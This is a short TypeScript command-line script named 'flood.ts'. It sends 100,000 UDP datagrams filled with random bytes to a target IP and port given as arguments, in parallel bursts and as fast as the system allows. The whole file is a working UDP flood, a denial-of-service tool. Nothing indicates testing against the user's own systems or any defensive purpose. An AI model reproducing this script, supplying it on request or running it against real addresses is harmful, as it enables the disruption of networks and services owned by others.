/** `node flood.ts IP PORT`: 100,000 datagrams of chance, as fast as the kernel takes them. */
import { randomBytes } from "node:crypto";
import { createSocket } from "node:dgram";

const [ip = "", port = ""] = process.argv.slice(2);
const socket = createSocket("udp4");
const garbage = Array.from({ length: 64 }, (_, number) => randomBytes(20 * number));
for (let count = 0; count < 100_000; count += garbage.length) {
  const burst = garbage.map((bytes) => new Promise<void>((sent) => socket.send(bytes, Number(port), ip, () => sent())));
  await Promise.all(burst);
}
socket.close();
